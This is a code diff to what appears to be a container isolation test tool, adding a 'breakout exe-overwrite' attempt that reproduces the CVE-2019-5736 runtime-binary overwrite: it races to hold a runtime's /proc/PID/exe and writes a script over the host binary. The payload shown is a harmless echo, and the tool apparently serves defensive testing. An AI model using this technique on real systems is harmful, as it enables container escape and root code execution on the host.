@@ -31,6 +31,7 @@
 #include <unistd.h>
 
 #include <algorithm>
+#include <chrono>
 #include <cerrno>
 #include <climits>
 #include <cstdio>
@@ -43,6 +44,7 @@
 #include <optional>
 #include <sstream>
 #include <string>
+#include <thread>
 #include <vector>
 
 namespace {
@@ -648,6 +650,91 @@ int try_forkbomb(const Args&) {
   return kOk;
 }
 
+// --- overwriting the runtime's binary (the class of CVE-2019-5736) ----------------------------
+
+// A process a runtime puts into the container runs the runtime's binary until it execs the
+// container's program; while it does, its /proc/PID/exe names that binary on the host. Opened with
+// O_PATH, the link gives a descriptor that outlives the process, and reopening the descriptor
+// through /proc/self/fd/N for writing (once nobody executes the file, ETXTBSY until then) writes
+// the host's file. The target is a process whose argv[0], or its last component, is MATCH.
+
+using Clock = std::chrono::steady_clock;
+
+std::string argv0_of(const std::string& pid) {
+  auto cmdline = read_file("/proc/" + pid + "/cmdline");
+  return cmdline ? std::string(cmdline->c_str()) : "";
+}
+
+bool matches(const std::string& argv0, const std::string& match) {
+  return argv0 == match || (argv0.size() > match.size() && argv0.ends_with("/" + match));
+}
+
+// Watches /proc without sleeping (the window may be microseconds wide) for SECONDS. A target's exe
+// may be refused for a while (a process with more capabilities than ours is not ours to look at) and
+// then not, so every refusal is tried again until the end. Returns the O_PATH descriptor, or -1 with
+// `refused` set to the last errno (0 when no target came).
+int hold_exe_of_target(const std::string& match, int seconds, std::string& target, int& refused) {
+  auto deadline = Clock::now() + std::chrono::seconds(seconds);
+  std::string self = std::to_string(getpid());
+  refused = 0;
+  while (Clock::now() < deadline) {
+    int error = 0;
+    for (const auto& pid : directory_entries("/proc", error)) {
+      if (pid.find_first_not_of("0123456789") != std::string::npos || pid == self) continue;
+      if (!matches(argv0_of(pid), match)) continue;
+      int fd = open(("/proc/" + pid + "/exe").c_str(), O_PATH | O_CLOEXEC);
+      if (fd == -1) {
+        if (errno != ENOENT && errno != ESRCH) refused = errno;  // not when it is gone by now
+        continue;
+      }
+      // The exe and the command line change together at exec: still the target, so was the exe.
+      if (matches(argv0_of(pid), match)) {
+        target = pid;
+        return fd;
+      }
+      close(fd);
+    }
+  }
+  return -1;
+}
+
+// What a container would write over the runtime: a script, harmless here, that would run as root
+// the next time someone on the host runs the runtime.
+const std::string kPayload = "#!/bin/sh\necho container code ran on the host\nexit 0\n";
+
+int write_through(int held, const std::string& target, int seconds) {
+  std::string path = "/proc/self/fd/" + std::to_string(held);
+  auto deadline = Clock::now() + std::chrono::seconds(seconds);
+  int fd = -1;
+  while ((fd = open(path.c_str(), O_WRONLY | O_CLOEXEC)) == -1 && errno == ETXTBSY && Clock::now() < deadline) {
+    std::this_thread::sleep_for(std::chrono::milliseconds(10));
+  }
+  if (fd == -1) return report_attempt("exe-overwrite", -1);
+  long written = pwrite(fd, kPayload.data(), kPayload.size(), 0);
+  int error = errno;
+  close(fd);
+  errno = error;
+  return report_attempt("exe-overwrite", written == -1 ? -1 : 0, "wrote over the binary of PID " + target);
+}
+
+int try_exe_overwrite(const Args& args) {
+  auto seconds = parse_number(args.at(2));
+  if (!seconds || *seconds <= 0 || *seconds > 600) return usage("breakout exe-overwrite: SECONDS must be 1..600");
+  std::string target;
+  int refused = 0;
+  int held = hold_exe_of_target(args.at(1), static_cast<int>(*seconds), target, refused);
+  if (held == -1 && refused == 0) {
+    std::cout << "escape exe-overwrite: no process with argv[0] " << args.at(1) << " seen" << std::endl;
+    return kFailed;
+  }
+  errno = refused;
+  if (held == -1) return report_attempt("exe-overwrite", -1);
+  std::cout << "holding the exe of PID " << target << std::endl;  // the test may now let it go on
+  int status = write_through(held, target, 20);
+  close(held);
+  return status;
+}
+
 struct Attempt {
   size_t arg_count;
   std::function<int(const Args&)> run;
@@ -672,6 +759,7 @@ const std::map<std::string, Attempt>& attempts() {
       {"clone-userns", {0, try_clone_userns}},
       {"chroot", {0, try_chroot}},
       {"forkbomb", {0, try_forkbomb}},
+      {"exe-overwrite", {2, try_exe_overwrite}},
   };
   return table;
 }
@@ -753,7 +841,7 @@ const std::map<std::string, Subcommand>& subcommands() {
                     "breakout ATTEMPT [ARG]  try to reach or change the host: mount, umount, pivot_root,\n"
                     "                      reboot, init_module, finit_module, write PATH, proc-root MARKER,\n"
                     "                      fds, ptrace PID, mknod, raw-socket, sethostname, unshare-userns,\n"
-                    "                      clone-userns, chroot, forkbomb",
+                    "                      clone-userns, chroot, forkbomb, exe-overwrite MATCH SECONDS",
                     cmd_breakout}},
       {"sleep", {1, "sleep SECS          sleep", cmd_sleep}},
       {"wait-stdin", {0, "wait-stdin          print waiting, block until stdin is closed", cmd_wait_stdin}},
